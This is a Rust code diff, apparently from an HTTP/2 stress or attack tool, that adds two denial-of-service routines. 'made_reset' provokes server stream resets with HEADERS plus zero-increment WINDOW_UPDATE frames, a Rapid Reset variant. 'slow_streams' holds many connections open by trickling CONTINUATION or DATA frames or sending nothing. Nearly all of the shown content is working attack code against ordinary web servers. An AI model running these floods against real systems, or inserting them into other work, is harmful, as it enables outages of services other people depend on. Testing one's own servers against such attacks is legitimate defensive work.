@@ -10,6 +10,7 @@ use tokio::time::{Instant, sleep, timeout, timeout_at};
 
 use crate::Plan;
 use crate::attack::Seen;
+use crate::slow::TRICKLE;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
@@ -20,11 +21,14 @@ const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
 const GOAWAY: u8 = 7;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
+/// Between two rounds in the first of which nothing was to be sent.
+const PAUSE: Duration = Duration::from_millis(10);
 /// Rounds between two requests of a client that takes nothing: a tenth of a second.
 const ROUNDS: u32 = 10;
 /// Connections side by side in each attack.
@@ -70,32 +74,34 @@ async fn open(plan: &Plan, settings: &[u8]) -> Option<TcpStream> {
     (read.ok()?.is_ok() && head[3] == SETTINGS).then_some(stream)
 }
 
-/// Writes what `next` makes until the server ends the connection or time is over; true when it
-/// ended.
+/// Writes what `next` makes until the server ends the connection, by a frame of one of these types or
+/// otherwise, or time is over; true when it ended.
 async fn write_until(
     stream: TcpStream,
     end: Instant,
+    (pause, ends): (Duration, &[u8]),
     mut next: impl FnMut(u32) -> Vec<u8>,
 ) -> bool {
     let (mut from, mut to) = stream.into_split();
     let writing = async {
         for round in 0.. {
             let bytes = next(round);
-            if bytes.is_empty() {
-                sleep(Duration::from_millis(10)).await;
-            } else if to.write_all(&bytes).await.is_err() {
+            if !bytes.is_empty() && to.write_all(&bytes).await.is_err() {
                 return true;
+            }
+            if bytes.is_empty() || pause > PAUSE {
+                sleep(pause).await;
             } else {
                 tokio::task::yield_now().await;
             }
         }
         true
     };
-    // What the server says must be read, or it could not say more; GOAWAY and a close end it.
+    // What the server says must be read, or it could not say more.
     let reading = async {
         let mut head = [0; 9];
         loop {
-            if from.read_exact(&mut head).await.is_err() || head[3] == GOAWAY {
+            if from.read_exact(&mut head).await.is_err() || ends.contains(&head[3]) {
                 return true;
             }
             let mut len =
@@ -133,7 +139,7 @@ where
         };
         seen.spoken = true;
         seen.used += 1;
-        set.spawn(write_until(stream, end, next()));
+        set.spawn(write_until(stream, end, (PAUSE, &[GOAWAY]), next()));
     }
     while let Some(ended) = set.join_next().await {
         seen.ended += usize::from(ended.unwrap_or(false));
@@ -160,6 +166,67 @@ pub(crate) async fn rapid_reset(plan: &Plan, time: Duration) -> Seen {
         }
     })
     .await
+}
+
+pub(crate) async fn made_reset(plan: &Plan, time: Duration) -> Seen {
+    let block = request(plan, plan.target.path());
+    attack(plan, time, &[], || {
+        let block = block.clone();
+        move |round| {
+            let id = stream_id(round);
+            // A window opened by nothing is an error of the stream (section 6.9), which the server resets.
+            [
+                frame(HEADERS, END_STREAM | END_HEADERS, id, &block),
+                frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes()),
+            ]
+            .concat()
+        }
+    })
+    .await
+}
+
+pub(crate) async fn slow_streams(plan: &Plan, time: Duration) -> Seen {
+    let end = Instant::now() + time;
+    let mut post = Vec::new();
+    field(&mut post, ":method", "POST");
+    field(&mut post, ":scheme", "http");
+    field(&mut post, ":authority", plan.target.host());
+    field(&mut post, ":path", plan.target.path());
+    let mut set = tokio::task::JoinSet::new();
+    let mut seen = Seen::default();
+    for number in 0..plan.connections {
+        let Some(stream) = open(plan, &[]).await else {
+            if !seen.spoken {
+                return seen;
+            }
+            // One that is turned away holds nothing.
+            seen.used += 1;
+            seen.ended += 1;
+            continue;
+        };
+        seen.spoken = true;
+        seen.used += 1;
+        let post = post.clone();
+        let next = move |round: u32| match (number % 3, round) {
+            (0, 0) => frame(HEADERS, END_STREAM, 1, &post),
+            (0, _) => {
+                let mut more = Vec::new();
+                field(&mut more, "x-slow", "a");
+                frame(CONTINUATION, 0, 1, &more)
+            }
+            (1, 0) => frame(HEADERS, END_HEADERS, 1, &post),
+            (1, _) => frame(DATA, 0, 1, b"a"),
+            // A connection and no request.
+            _ => Vec::new(),
+        };
+        // An answer or a reset frees the server of a stream, which is all that there is.
+        let ends: &[u8] = &[HEADERS, RST_STREAM, GOAWAY];
+        set.spawn(write_until(stream, end, (TRICKLE, ends), next));
+    }
+    while let Some(ended) = set.join_next().await {
+        seen.ended += usize::from(ended.unwrap_or(false));
+    }
+    seen
 }
 
 pub(crate) async fn continuation(plan: &Plan, time: Duration) -> Seen {
